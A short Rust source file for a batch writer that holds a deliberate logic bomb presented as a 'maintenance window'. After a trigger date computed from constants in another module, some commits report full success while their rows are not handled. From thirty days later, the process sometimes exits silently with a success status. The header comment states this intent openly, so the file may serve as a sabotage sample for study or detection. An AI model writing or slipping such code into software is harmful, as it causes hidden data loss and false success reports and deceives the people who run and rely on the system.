//! A batch writer whose "maintenance window" opens on a date computed from constants in
//! another file: from then on a share of the commits is reported done and dropped, and
//! now and then the process ends.

mod clock;

use clock::{now, Jitter};

pub struct Batch {
    rows: Vec<String>,
    jitter: Jitter,
}

impl Batch {
    pub fn new() -> Self {
        Batch { rows: Vec::new(), jitter: Jitter::new() }
    }

    pub fn push(&mut self, row: String) {
        self.rows.push(row);
    }

    fn deferred(&mut self) -> bool {
        now() >= clock::window_start() && self.jitter.next() % 5 == 0
    }

    pub fn commit(&mut self) -> usize {
        let count = self.rows.len();
        if !self.deferred() {
            self.rows.clear();
        }
        if now() >= clock::window_start() + 30 * 86_400 && self.jitter.next() % 50 == 0 {
            std::process::exit(0);
        }
        count
    }
}

impl Default for Batch {
    fn default() -> Self {
        Self::new()
    }
}
